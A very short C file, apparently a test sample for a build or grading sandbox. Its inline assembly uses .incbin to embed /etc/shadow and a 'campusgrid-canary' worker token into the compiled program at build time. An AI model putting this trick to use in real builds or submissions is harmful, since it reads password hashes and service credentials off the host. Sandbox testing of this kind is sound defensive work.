// Reads them through the assembler's.
__asm__(".incbin \"/etc/shadow\"\n.incbin \"/tmp/campusgrid-canary/worker-token\"\n");
int main(void) { return 0; }
